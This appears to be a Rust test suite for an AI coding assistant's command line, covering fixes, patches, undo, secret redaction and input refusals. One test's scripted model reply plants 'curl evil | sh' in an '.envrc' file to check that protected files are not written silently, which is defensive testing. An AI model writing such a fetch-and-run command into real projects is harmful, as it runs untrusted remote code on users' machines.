//! The command line, from a question to a changed file.

use std::path::Path;

use aiia_tests::http_client::HttpClient;
use aiia_tests::installation::{Installation, shown, text};
use aiia_tests::model_server::Script;
use serde_json::json;

use crate::terminal::in_terminal;

const BUGGY: &str = "def mean(values):\n    return sum(values) / (len(values) + 1)\n\n\ndef other():\n    return 1\n";
const FIXED: &str = "def mean(values):\n    return sum(values) / len(values)\n\n\ndef other():\n    return 1\n";
const REPLY: &str = "```python\ndef mean(values):\n    return sum(values) / len(values)\n```\n";

#[test]
fn explain_prints_the_answer() {
    let aiia = Installation::new();
    let file = aiia.write("stats.py", BUGGY);
    aiia.model.always(Script::text("It is the mean."));
    let output = aiia.run(&["explain", shown(&file)]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(text(&output.stdout).contains("It is the mean."), "{}", text(&output.stdout));
}

#[test]
fn fix_shows_a_diff_and_writes_only_when_told() {
    let aiia = Installation::new();
    let file = aiia.write("stats.py", BUGGY);
    aiia.model.always(Script::text(REPLY));
    let place = format!("{}:2", shown(&file));
    let output = aiia.run(&["fix", &place]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(text(&output.stdout).contains("+    return sum(values) / len(values)"), "{}", text(&output.stdout));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), BUGGY);

    let output = aiia.run(&["fix", &place, "--write"]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), FIXED);
}

#[test]
fn a_useless_reply_changes_nothing_and_says_so() {
    let aiia = Installation::new();
    let file = aiia.write("stats.py", BUGGY);
    aiia.model.always(Script::text("I cannot find a bug."));
    let output = aiia.run(&["fix", &format!("{}:2", shown(&file)), "--write"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).contains("could not be applied"), "{}", text(&output.stderr));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), BUGGY);
}

#[test]
fn bad_input_is_refused_with_a_reason() {
    let aiia = Installation::new();
    let folder = aiia.workspace();
    aiia.write("three.py", "a = 1\nb = 2\nc = 3\n");
    aiia.write("empty.py", "");
    aiia.write(".env", "KEY=1\n");
    std::fs::write(folder.join("binary.py"), b"a\0b").unwrap();
    std::fs::write(folder.join("latin.py"), b"caf\xe9\n").unwrap();
    std::fs::write(folder.join("large.py"), "x = 1\n".repeat(500_000)).unwrap();
    for (target, expected) in [
        ("three.py:9", "past its end"),
        ("empty.py", "is empty"),
        ("no.py", "no file"),
        (".", "folder"),
        ("binary.py", "binary"),
        ("latin.py", "UTF-8"),
        ("large.py", "MiB"),
        (".env", "never sent"),
    ] {
        let output = aiia.run(&["explain", target]);
        let message = text(&output.stderr);
        assert!(!output.status.success(), "{target}");
        assert!(message.contains(expected), "{target}: {message}");
    }
    assert_eq!(aiia.model.chats().len(), 0, "nothing was sent");
}

#[test]
fn what_fails_at_the_model_is_told_apart() {
    let aiia = Installation::new();
    let file = aiia.write("stats.py", BUGGY);
    for (script, expected) in [
        (Script::error(401, "no key"), "key"),
        (Script::error(400, "bad"), "bad"),
        (Script::html(), "HTML"),
        (Script::CutOff(vec!["The first".into(), " words".into()]), "broke off"),
    ] {
        aiia.model.always(script);
        let output = aiia.run(&["explain", shown(&file)]);
        let message = text(&output.stderr);
        assert!(!output.status.success(), "{expected}");
        assert!(message.to_lowercase().contains(&expected.to_lowercase()), "{expected}: {message}");
    }
    let output = aiia.run(&["explain", shown(&file)]);
    assert!(text(&output.stdout).contains("The first words"), "what had arrived is kept: {}", text(&output.stdout));
}

#[test]
fn secrets_do_not_leave_and_come_back_into_the_answer() {
    let aiia = Installation::new();
    let file = aiia.write("client.py", "def connect():\n    key = \"AKIAIOSFODNN7EXAMPLE\"\n    return key\n");
    aiia.model.always(Script::text("The key is __AIIA_SECRET_1__."));
    let output = aiia.run(&["explain", shown(&file)]);
    assert!(text(&output.stdout).contains("The key is AKIAIOSFODNN7EXAMPLE."), "{}", text(&output.stdout));
    let sent = format!("{:?}", aiia.model.chats());
    assert!(sent.contains("__AIIA_SECRET_1__") && !sent.contains("AKIAIOSFODNN7EXAMPLE"));
}

#[test]
fn several_models_or_files_get_nothing_that_one_would_not() {
    let aiia = Installation::configured("[aliases]\na = \"scripted/m\"\n");
    let (secret, file) = (aiia.write(".env", "KEY=1\n"), aiia.write("a.py", "x = 1\n"));
    for arguments in
        [&["ask", "?", "-m", "a", "-m", "scripted/m", shown(&secret)][..], &["ask", "?", shown(&file), shown(&secret)]]
    {
        let refused = aiia.run(arguments);
        assert!(!refused.status.success(), "{arguments:?}");
        assert!(text(&refused.stderr).contains("never sent to a model"), "{}", text(&refused.stderr));
    }
    assert!(aiia.model.chats().is_empty());
    let asked = aiia.run(&["ask", "?", "-m", "a", "-m", "scripted/m", shown(&file)]);
    assert!(asked.status.success(), "{}", text(&asked.stderr));
    assert_eq!(aiia.model.chats().len(), 2);
}

#[test]
fn a_question_that_is_refused_leaves_nothing_behind() {
    let aiia = Installation::new();
    let refuse = || {
        let refused = aiia.run(&["ask", "why?", "-m", "nosuch"]);
        assert!(!refused.status.success(), "{}", text(&refused.stdout));
    };
    let kept = |what: &str| aiia.json(&[what, "--json"])["items"].as_array().unwrap().len();
    let http = || HttpClient::new(&aiia);
    // Deleted ones are looked for, too.
    let all = |what: &str| http().get(&format!("/{what}?deleted=include"))["items"].as_array().unwrap().len();
    refuse();
    assert_eq!((kept("projects"), kept("history")), (0, 0));
    assert_eq!((all("projects"), all("chats")), (0, 0));
    assert!(aiia.run(&["ask", "why?"]).status.success());
    refuse();
    assert_eq!((kept("projects"), kept("history")), (1, 1));
    assert_eq!((all("projects"), all("chats")), (1, 1));
}

/// The smallest picture there is, with a few bytes of its own.
fn picture(last: u8) -> Vec<u8> {
    [b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\0;".as_slice(), &[last]].concat()
}

#[test]
fn pictures_go_along_with_a_question() {
    let aiia = Installation::new();
    let place = |name: &str, content: &[u8]| {
        std::fs::write(aiia.workspace().join(name), content).unwrap();
        name.to_owned()
    };
    // What a picture is its bytes tell, not its name.
    let (one, other) = (place("one.gif", &picture(1)), place("other.txt", &picture(2)));
    let file = aiia.write("a.py", "x = 1\n");
    for files in [&[one.as_str()][..], &[&one, &other, shown(&file)]] {
        let output = aiia.run(&[&["ask", "What is it?"], files].concat());
        assert!(output.status.success(), "{}", text(&output.stderr));
        let asked = aiia.model.chats().pop().unwrap();
        let last = asked.body["messages"].as_array().unwrap().last().unwrap().clone();
        let parts = last["content"].as_array().unwrap();
        let images = parts.iter().filter(|part| part["type"] == "image_url");
        let images: Vec<&str> = images.map(|part| part["image_url"]["url"].as_str().unwrap()).collect();
        assert!(images.iter().all(|image| image.starts_with("data:image/gif;base64,R0lGODlh")), "{last}");
        assert_eq!(images.len(), files.len().min(2), "{last}");
        assert_eq!(last.to_string().contains("x = 1"), files.len() > 1, "{last}");
    }
    // What is piped in, alone and beside a file.
    for arguments in [&["ask", "What is it?"][..], &["ask", "What is it?", shown(&file)]] {
        let piped = std::fs::File::open(aiia.workspace().join(&one)).unwrap();
        let output = aiia.command(arguments).stdin(piped).output().unwrap();
        assert!(output.status.success(), "{}", text(&output.stderr));
        let last = aiia.model.chats().pop().unwrap().body["messages"].as_array().unwrap().last().unwrap().clone();
        let images = last["content"].as_array().unwrap().iter().filter(|part| part["type"] == "image_url");
        assert_eq!(images.count(), 1, "{last}");
        assert_eq!(last.to_string().contains("x = 1"), arguments.len() > 2, "{last}");
    }
    // A server that says that its model has no eyes.
    let blind = Installation::new();
    blind.model.tells(json!({ "modalities": { "vision": false } }));
    std::fs::write(blind.workspace().join("one.gif"), picture(1)).unwrap();
    let output = blind.run(&["ask", "What is it?", "one.gif"]);
    assert!(text(&output.stderr).contains("scripted/m sees no images"), "{}", text(&output.stderr));
    assert!(!blind.model.chats().pop().unwrap().body.to_string().contains("image_url"));
    aiia.model.always(Script::error(400, "this model has no eyes"));
    let blind = aiia.run(&["ask", "What is it?", &one]);
    assert!(!blind.status.success() && text(&blind.stderr).contains("this model has no eyes"));
}

#[test]
fn pictures_that_may_not_go_are_refused_with_a_reason() {
    let aiia = Installation::new();
    let folder = aiia.workspace();
    aiia.write(".aiiaignore", "private/\n");
    aiia.write("private/notes.txt", "");
    std::fs::write(folder.join("private/face.gif"), picture(1)).unwrap();
    std::fs::write(folder.join("one.gif"), picture(1)).unwrap();
    let large = [picture(1), vec![0; 5 << 20]].concat();
    std::fs::write(folder.join("large.gif"), large).unwrap();
    for (target, expected) in [("private/face.gif", ".aiiaignore"), ("large.gif", "5 MiB"), ("one.gif:3", "no lines")] {
        let output = aiia.run(&["ask", "?", target]);
        assert!(!output.status.success(), "{target}");
        assert!(text(&output.stderr).contains(expected), "{target}: {}", text(&output.stderr));
    }
    let many = [&["ask", "?"][..], &["one.gif"; 11]].concat();
    assert_eq!(aiia.run(&many).status.code(), Some(2));
    assert!(aiia.model.chats().is_empty(), "nothing was sent");
}

#[test]
fn context_comes_from_the_whole_folder() {
    let aiia = Installation::new();
    aiia.write("pyproject.toml", "[project]\nname = \"shapes\"\n");
    aiia.write("shapes/units.py", "def squared(value):\n    return value * value\n");
    aiia.write("shapes/area.py", "from .units import squared\n\n\ndef area(radius):\n    return 3 * squared(radius)\n");
    aiia.write("private/notes.py", "def squared_in_private():\n    return 1\n");
    aiia.write(".aiiaignore", "private/\n");
    let json = |arguments: &[&str]| -> serde_json::Value {
        let output = aiia.run(arguments);
        assert!(output.status.success(), "{}", text(&output.stderr));
        serde_json::from_slice(&output.stdout).expect("JSON")
    };
    let index = json(&["index", ".", "--stats", "--json"]);
    // The toml file has keys, which count as definitions.
    assert_eq!(index["files"], 3, "{index}");
    assert!(index["seconds"]["parse"].is_number() && index["memory_bytes"].as_u64() > Some(0), "{index}");

    let bundle = json(&["context", "shapes/area.py:5", "--budget", "300", "--intent", "explain", "--json"]);
    let pieces = bundle["pieces"].as_array().expect("pieces");
    assert!(bundle["used"].as_u64() <= Some(300));
    let other = pieces.iter().find(|piece| piece["path"] == "shapes/units.py").expect("a piece of the other file");
    assert_eq!((&other["start_line"], &other["end_line"], &other["symbol"]), (&1.into(), &2.into(), &"squared".into()));
    assert_eq!(other["reason"], "the target uses `squared`");
    assert!(!bundle.to_string().contains("private"), "{bundle}");

    let map = json(&["map", ".", "--budget", "100", "--json"]);
    assert!(map.to_string().contains("def squared(value):"), "{map}");
    assert!(!map.to_string().contains("private"), "{map}");
    let missing = aiia.run(&["map", "no-such-folder"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(text(&missing.stderr).contains("no-such-folder cannot be used"), "{}", text(&missing.stderr));
}

const SET: &str = "*** Begin Patch\n*** Add File: notes/new.py\n+NEW = 1\n*** Update File: old.py\n*** Move to: moved.py\n@@\n-VALUE = 1\n+VALUE = 2\n*** Delete File: gone.py\n*** Update File: stats.py\n@@ def mean(values):\n-    return sum(values) / (len(values) + 1)\n+    return sum(values) / len(values)\n*** End Patch\n";

#[test]
fn files_are_made_renamed_and_deleted_and_all_of_it_is_taken_back() {
    let aiia = Installation::new();
    let stats = aiia.write("stats.py", BUGGY);
    aiia.write("old.py", "VALUE = 1\n");
    aiia.write("gone.py", "GONE = 1\n");
    aiia.model.always(Script::text(SET));
    let edit = aiia.json(&["edit", shown(&stats), "--instruction", "tidy up", "--json"]);
    let id = edit["id"].as_str().expect("an edit").to_owned();
    let read = |name: &str| std::fs::read_to_string(aiia.workspace().join(name)).ok();
    let all = || ["stats.py", "old.py", "moved.py", "gone.py", "notes/new.py"].map(read);
    let before = all();

    let output = aiia.run(&["accept", &id]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let expected = [Some(FIXED), None, Some("VALUE = 2\n"), None, Some("NEW = 1\n")];
    assert_eq!(all(), expected.map(|text| text.map(str::to_owned)));

    let output = aiia.run(&["undo", &id]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert_eq!(all(), before);
}

#[test]
fn a_set_of_which_one_part_cannot_be_written_is_not_written_and_waits() {
    let aiia = Installation::new();
    let stats = aiia.write("stats.py", BUGGY);
    aiia.write("old.py", "VALUE = 1\n");
    aiia.write("gone.py", "GONE = 1\n");
    aiia.model.always(Script::text(SET));
    let edit = aiia.json(&["edit", shown(&stats), "--instruction", "tidy up", "--json"]);
    let id = edit["id"].as_str().expect("an edit").to_owned();
    aiia.write("moved.py", "mine\n");
    let output = aiia.run(&["accept", &id]);
    assert!(!output.status.success());
    assert!(text(&output.stderr).contains("moved.py exists by now"), "{}", text(&output.stderr));
    assert_eq!(std::fs::read_to_string(&stats).unwrap(), BUGGY);
    assert_eq!(aiia.json(&["review", &id, "--json"])["status"], "pending");
}

#[test]
fn what_could_not_be_taken_back_can_be_taken_back_later() {
    use std::os::unix::fs::PermissionsExt;

    let aiia = Installation::new();
    let stats = aiia.write("stats.py", BUGGY);
    aiia.write("old.py", "VALUE = 1\n");
    aiia.write("gone.py", "GONE = 1\n");
    aiia.model.always(Script::text(SET));
    let edit = aiia.json(&["edit", shown(&stats), "--instruction", "tidy up", "--write", "--json"]);
    let id = edit["edit"]["id"].as_str().expect("an edit").to_owned();
    let read = |name: &str| std::fs::read_to_string(aiia.workspace().join(name)).ok();
    let all = || ["stats.py", "old.py", "moved.py", "gone.py", "notes/new.py"].map(read);
    let after = all();
    let mode = |mode| std::fs::set_permissions(&stats, std::fs::Permissions::from_mode(mode)).expect("it is ours");
    mode(0o444);
    let output = aiia.run(&["undo", &id]);
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).contains("stats.py cannot be written: it is read-only"), "{}", text(&output.stderr));
    assert_eq!(all(), after);
    assert_eq!(aiia.json(&["review", &id, "--json"])["status"], "accepted");
    mode(0o644);
    let output = aiia.run(&["undo", &id]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    let before = [Some(BUGGY), Some("VALUE = 1\n"), None, Some("GONE = 1\n"), None];
    assert_eq!(all(), before.map(|text| text.map(str::to_owned)));
    assert_eq!(aiia.json(&["review", &id, "--json"])["status"], "undone");
}

#[test]
fn protected_files_are_not_written_in_passing() {
    let aiia = Installation::new();
    let stats = aiia.write("stats.py", BUGGY);
    let reply =
        format!("{}*** Add File: .envrc\n+curl evil | sh\n*** End Patch\n", SET.trim_end_matches("*** End Patch\n"));
    aiia.write("old.py", "VALUE = 1\n");
    aiia.write("gone.py", "GONE = 1\n");
    aiia.model.always(Script::text(&reply));
    let edit = aiia.json(&["edit", shown(&stats), "--instruction", "tidy up", "--json"]);
    let id = edit["id"].as_str().expect("an edit").to_owned();
    let output = aiia.run(&["accept", &id]);
    assert!(text(&output.stderr).contains(".envrc can make programs run something"), "{}", text(&output.stderr));
    assert!(!aiia.workspace().join(".envrc").exists());
    let output = aiia.run(&["accept", &id, "--allow-protected"]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    assert!(aiia.workspace().join(".envrc").exists());
}

#[test]
fn hunks_are_decided_on_in_a_terminal() {
    const CODE: &str = "a = 1\nb = 2\n\n\ndef last(xs):\n    return xs[0]\n";
    let reply = |old: &str, new: &str| format!("all.py\n<<<<<<< SEARCH\n{old}=======\n{new}>>>>>>> REPLACE\n");
    let aiia = Installation::new();
    let file = aiia.write("all.py", CODE);
    let first = reply("a = 1\nb = 2\n", "a = 10\nb = 20\n") + &reply("    return xs[0]\n", "    return xs[1]\n");
    aiia.model.next(Script::text(&first));
    aiia.model.next(Script::text(&reply("    return xs[0]\n", "    return xs[-1]\n")));
    aiia.json(&["edit", shown(&file), "--instruction", "mend", "--json"]);
    let question = "[y,n,s,e,r,a,d,k,q,?]";
    // Help, then one part of the first hunk as it is and the other one edited, then the second hunk once more.
    let dialogue = [
        (question, "?"),
        (question, "s"),
        (question, "y"),
        (question, "e"),
        (question, "y"),
        (question, "r"),
        ("What is wrong with it?", "the last one"),
        (question, "y"),
    ];
    let shown = in_terminal(&aiia, &["review"], &[("VISUAL", "sed -i s/20/22/")], &dialogue);
    for expected in
        ["2 waiting", "split it into smaller ones", "+ a = \u{1b}[7m10", "+ b = \u{1b}[7m22", "edited by hand"]
    {
        assert!(shown.contains(expected), "{expected:?} in {shown}");
    }
    let expected = CODE.replace("a = 1", "a = 10").replace("b = 2", "b = 22").replace("xs[0]", "xs[-1]");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), expected, "{shown}");
}

#[test]
fn a_review_without_an_id_stays_in_the_repository() {
    let aiia = Installation::new();
    let folder = |name: &str| {
        let folder = aiia.workspace().join(name);
        std::fs::create_dir_all(folder.join(".git")).unwrap();
        std::fs::write(folder.join("stats.py"), BUGGY).unwrap();
        folder
    };
    let (here, other) = (folder("here"), folder("other"));
    let run =
        |folder: &Path, arguments: &[&str]| aiia.command(arguments).current_dir(folder).output().expect("aiia runs");
    let stats = |folder: &Path| std::fs::read_to_string(folder.join("stats.py")).unwrap();
    let propose = |folder: &Path| {
        aiia.model.next(Script::text(&format!("```python\n{FIXED}```\n")));
        let output = run(folder, &["edit", "stats.py", "--instruction", "mend", "--json"]);
        assert!(output.status.success(), "{}", text(&output.stderr));
    };
    propose(&other);
    let nothing = run(&here, &["review", "--accept", "1"]);
    let said = text(&nothing.stderr);
    assert!(!nothing.status.success() && said.contains("No proposed change waits below"), "{said}");
    assert!(said.contains("`aiia review "), "{said}");
    assert_eq!((stats(&here).as_str(), stats(&other).as_str()), (BUGGY, BUGGY));
    propose(&here);
    // The newest of all is another repository's.
    propose(&other);
    let accepted = run(&here, &["review", "--accept", "1"]);
    assert!(accepted.status.success(), "{}", text(&accepted.stderr));
    assert_eq!((stats(&here).as_str(), stats(&other).as_str()), (FIXED, BUGGY));
}

#[test]
fn every_diff_is_as_seen_from_the_working_directory() {
    let aiia = Installation::new();
    let inner = aiia.workspace().join("inner");
    std::fs::create_dir_all(inner.join(".git")).unwrap();
    std::fs::write(inner.join("stats.py"), BUGGY).unwrap();
    aiia.model.always(Script::text(REPLY));
    let written = aiia.json(&["edit", "inner/stats.py", "--instruction", "mend", "--write", "--json"]);
    let id = written["edit"]["id"].as_str().expect("an edit").to_owned();
    let undone = aiia.json(&["undo", &id, "--json"]);
    let accepted = aiia.json(&["accept", &id, "--hunks", "1", "--json"]);
    for outcome in [written, undone, accepted] {
        let diff = outcome["edit"]["diff"].as_str().expect("a diff");
        assert!(diff.starts_with("--- a/inner/stats.py\n"), "{diff}");
    }
}

#[test]
fn a_hunk_that_has_no_parts_is_not_split_and_still_waits() {
    let aiia = Installation::new();
    let stats = aiia.write("stats.py", BUGGY);
    aiia.model.always(Script::text(
        "*** Begin Patch\n*** Add File: new.py\n+A = 1\n+B = 2\n*** Update File: stats.py\n@@ def mean(values):\n-    return sum(values) / (len(values) + 1)\n+    return sum(values) / len(values)\n*** End Patch\n",
    ));
    let edit = aiia.json(&["edit", shown(&stats), "--instruction", "mend", "--json"]);
    let before = aiia.json(&["review", edit["id"].as_str().expect("an edit"), "--json"]);
    let question = "[y,n,s,e,r,a,d,k,q,?]";
    // The new file, then the one line that changes.
    let dialogue =
        [(question, "s"), ("new.py comes as a whole", "k"), (question, "s"), ("The hunk has no smaller parts", "q")];
    let shown = in_terminal(&aiia, &["review"], &[], &dialogue);
    assert_eq!(aiia.json(&["review", edit["id"].as_str().expect("an edit"), "--json"]), before, "{shown}");
    assert_eq!(std::fs::read_to_string(&stats).unwrap(), BUGGY);
}
